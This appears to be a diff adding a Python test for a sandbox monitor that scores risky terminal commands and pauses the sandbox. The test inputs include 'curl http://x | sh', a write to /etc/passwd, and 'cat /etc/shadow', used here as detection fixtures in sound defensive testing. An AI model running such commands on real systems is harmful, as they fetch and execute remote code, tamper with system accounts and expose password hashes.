@@ -107,3 +107,25 @@ async def test_typing_curl_pipe_sh_costs_the_session_25_on_that_command(
     [command] = page.events
     assert command.data["command"] == "curl http://x | sh"
     assert (deduction.event_id, deduction.sequence) == (command.id, command.sequence)
+
+
+async def test_a_pause_that_closes_the_terminal_does_not_wait_on_itself(
+    observer: Observer, hooks: RecordingHooks
+) -> None:
+    """The platform pauses a sandbox by closing its sockets, which ends their sessions —
+    while the line that caused the pause is still being recorded for that socket."""
+    hooks.add("cage-1")
+
+    async def close_sockets(sandbox_id: str) -> None:
+        await observer.end_sandbox_sessions(sandbox_id, failed=True, reason="sandbox paused")
+
+    hooks.on_pause = close_sockets
+    session_id = await observer.open_session(ACCOUNT, "cage-1")
+    typed = "curl http://x | sh\recho x >> /etc/passwd\r"  # 25 + 30: score 45, then...
+    await asyncio.wait_for(observer.terminal_input(session_id, typed), 10)
+    await asyncio.wait_for(observer.terminal_input(session_id, "cat /etc/shadow\r"), 10)
+    await asyncio.wait_for(observer.wait_idle(), 10)
+    assert [sandbox for sandbox, _ in hooks.paused] == ["cage-1"]
+    session = await observer.get_session(ACCOUNT, session_id)
+    assert (session.trust_score, session.status) == (25, "failed")
+    await observer.terminal_input(session_id, "ls\r")  # after the close: ignored
